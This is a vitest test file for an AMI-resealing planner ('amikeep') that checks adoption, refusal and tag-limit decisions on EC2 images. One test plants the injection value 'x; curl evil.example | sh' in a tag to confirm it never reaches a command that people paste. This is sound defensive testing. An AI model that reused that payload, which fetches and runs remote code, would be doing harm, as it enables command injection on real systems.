import { describe, expect, it } from 'vitest';
import type { Image } from '../../../lib/model/resources.ts';
import { planResealing } from '../../../lib/planning/adopt/reseal.ts';
import { encodeStamp } from '../../../lib/tagging/stamp.ts';
import { AN_INSTANCE_ID, aStamp, DR, HERE } from '../../builders.ts';
import { about, ami, cutShort, imageOfDay, marked, NOW, read, snap, tagged } from '../fleet.ts';

const plan = (images: readonly Image[], policy?: string) =>
  planResealing('prod', { target: HERE, images: read(images), sources: read([]) }, policy);
const decided = (image: Image) => about(plan([image]), image.id);

describe('P23: an image of ours whose seal does not hold', () => {
  it.each(['missing', 'broken'] as const)('is sealed as what its tags say, by a person’s word: %s', (seal) => {
    expect(plan([imageOfDay(0, {}, { seal })])).toEqual({
      decisions: [
        {
          subject: { kind: 'image', id: ami(1), region: HERE.region },
          policy: 'nightly',
          lineage: AN_INSTANCE_ID,
          version: '2026.11.23-0200',
          action: 'adopt',
          reason: {
            code: 'adopted',
            text: `it is sealed as 2026.11.23-0200 of ${AN_INSTANCE_ID} under policy nightly`,
          },
          change: {
            kind: 'adopt',
            region: HERE.region,
            image: ami(1),
            snapshots: [snap(1)],
            tags: encodeStamp(aStamp()),
          },
        },
      ],
      warnings: [],
      problems: [],
    });
  });

  it('gets no seal for what else is written on it, such as a mark or a hold', () => {
    const image = tagged(marked(imageOfDay(0, {}, { seal: 'missing' }), NOW), { 'amikeep:hold': 'x', Name: 'web' });
    expect(decided(image)).toMatchObject({ change: { tags: encodeStamp(aStamp()) } });
  });

  it('is refused where people’s tags leave no room for the seal, and told what to take off', () => {
    const image = imageOfDay(0, {}, { seal: 'missing' });
    const people = Array.from({ length: 50 - Object.keys(image.tags).length }, (_, index) => [`Team${index}`, 'x']);
    expect(decided(tagged(image, Object.fromEntries(people)))).toMatchObject({
      action: 'refuse',
      reason: {
        code: 'too-many-tags',
        text: `amikeep:seal is to be written on ${ami(1)}, which has 50 tags, and EC2 allows 50: take 1 off it, such as Team0`,
      },
    });
  });

  it.each([
    ['as an adoption', 'golden', 'amikeep adopt --filter tag:amikeep:adopted=ami-00000000000000001 --policy NAME'],
    ['although its name is ours', imageOfDay(0).name, 'take that tag off'],
  ])('P1: is refused where the tag of an adoption is on it, which anybody may write: %s', (_, name, remedy) => {
    const image = tagged(imageOfDay(0, {}, { seal: 'broken', name }), { 'amikeep:adopted': ami(1) });
    expect(decided(image)).toMatchObject({
      action: 'refuse',
      reason: { code: 'cannot-adopt', text: expect.stringContaining(remedy) },
    });
  });

  it('P1: puts no word of an unproven tag into a command that people paste', () => {
    const image = imageOfDay(0, { policy: 'x; curl evil.example | sh' }, { seal: 'broken', name: 'golden' });
    const { reason } = decided(tagged(image, { 'amikeep:adopted': ami(1) }));
    expect(reason.text).toContain('--policy NAME');
    expect(reason.text).not.toContain('evil.example');
  });

  it.each<[string, Image, string]>([
    ['of another name', imageOfDay(0, {}, { seal: 'missing', name: 'my copy' }), "its name is 'my copy'"],
    ['of another region', imageOfDay(0, {}, { seal: 'missing', region: DR.region }), 'its tags say that it is in'],
    [
      'with a tag that cannot be read',
      tagged(imageOfDay(0, {}, { seal: 'missing' }), { 'amikeep:keep': '?' }),
      "can't be read",
    ],
    ['of another deployment', imageOfDay(0, { deployment: 'test' }, { seal: 'missing' }), "not of 'prod'"],
  ])('is refused where EC2 or its tags contradict: %s', (_, image, text) => {
    expect(decided(image)).toMatchObject({
      action: 'refuse',
      reason: { code: 'cannot-adopt', text: expect.stringContaining(text) },
    });
  });

  it('P4: is refused where the key could not be read, which says nothing of its seal', () => {
    expect(decided(imageOfDay(0, {}, { seal: 'unread' }))).toMatchObject({
      action: 'refuse',
      policy: 'nightly',
      reason: { code: 'evidence-incomplete' },
    });
  });
});

it('an image whose seal holds is left as it is', () => {
  expect(decided(imageOfDay(0))).toMatchObject({
    action: 'skip',
    policy: 'nightly',
    reason: { code: 'already-there', text: 'its seal holds' },
  });
});

it('one policy alone is looked at where one is named, and of what is refused only what is known to be of it', () => {
  const images = [
    imageOfDay(0, {}, { seal: 'missing' }),
    imageOfDay(1, { policy: 'weekly' }, { seal: 'missing' }),
    imageOfDay(2, {}, { seal: 'missing', name: 'my copy' }),
    imageOfDay(3, {}, { seal: 'missing', tags: { 'amikeep:deployment': 'prod' } }),
  ];
  expect(plan(images, 'nightly').decisions.map(({ action, subject }) => [action, subject.id])).toEqual([
    ['adopt', ami(1)],
    ['refuse', ami(3)],
  ]);
});

it('what could not be read whole is a problem of the plan', () => {
  const { problems } = planResealing('prod', { target: HERE, images: cutShort([]), sources: read([]) });
  expect(problems).toEqual(['images in eu-central-1: UnauthorizedOperation']);
});
